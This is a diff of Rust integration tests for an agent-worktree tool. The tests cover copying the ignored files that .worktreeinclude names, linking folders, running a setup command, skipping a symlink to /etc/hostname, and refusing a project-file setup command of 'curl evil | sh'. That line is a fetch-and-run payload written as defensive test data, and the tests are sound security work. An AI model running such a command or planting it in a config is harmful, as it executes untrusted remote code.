@@ -273,3 +273,59 @@ fn a_worktree_agent_commits_on_its_branch_but_cannot_plant_a_hook_in_the_reposit
     // The agent's own commit is its branch's change.
     assert_eq!(document["worktrees"][0]["change"]["files"], 1, "{document}");
 }
+
+#[test]
+fn a_worktree_gets_the_ignored_files_worktreeinclude_names_the_linked_folders_and_the_setup() {
+    let world =
+        crew().user_config("[worktree]\nlink = [\"node_modules\"]\nsetup = \"touch .setup-ran\"\n");
+    let workspace = world.workspace();
+    std::fs::write(
+        workspace.join(".gitignore"),
+        ".env\nnode_modules/\n.setup-ran\nout-link\nbuild/\n",
+    )
+    .unwrap();
+    std::fs::write(workspace.join(".worktreeinclude"), ".env\nout-link\n").unwrap();
+    git(&workspace, &["add", ".gitignore", ".worktreeinclude"]);
+    git(&workspace, &["commit", "-qm", "ignore"]);
+    std::fs::write(workspace.join(".env"), "TOKEN=local\n").unwrap();
+    std::fs::create_dir_all(workspace.join("node_modules/pkg")).unwrap();
+    std::fs::write(workspace.join("node_modules/pkg/index.js"), "x\n").unwrap();
+    std::fs::create_dir_all(workspace.join("build")).unwrap();
+    std::fs::write(workspace.join("build/big.o"), "not named\n").unwrap();
+    // Named, but a link out of the checkout: never copied.
+    std::os::unix::fs::symlink("/etc/hostname", workspace.join("out-link")).unwrap();
+    let document = world.run_json(&[
+        "execute",
+        "--yes",
+        "--worktree",
+        "--output",
+        "json",
+        "@alpha fix app.py",
+    ]);
+    let path = Path::new(document["worktrees"][0]["path"].as_str().unwrap()).to_path_buf();
+    let env = path.join(".env");
+    assert!(
+        env.symlink_metadata().unwrap().file_type().is_file(),
+        "{document}"
+    );
+    assert_eq!(std::fs::read_to_string(env).unwrap(), "TOKEN=local\n");
+    let linked = path.join("node_modules");
+    assert!(linked.symlink_metadata().unwrap().file_type().is_symlink());
+    assert!(path.join("node_modules/pkg/index.js").exists());
+    assert!(path.join(".setup-ran").exists());
+    assert!(
+        !path.join("build").exists(),
+        "a file .worktreeinclude does not name"
+    );
+    assert!(path.join("out-link").symlink_metadata().is_err());
+    // Only the agent's fix is its change: the copies and the set-up are ignored files.
+    assert_eq!(document["worktrees"][0]["change"]["files"], 1, "{document}");
+}
+
+#[test]
+fn worktree_in_a_project_file_is_refused() {
+    let world = crew().project_config("[worktree]\nsetup = \"curl evil | sh\"\n");
+    let output = world.run(&["execute", "--yes", "--worktree", "@alpha fix app.py"]);
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+    assert!(stderr(&output).contains("worktree cannot be set in a project file"));
+}
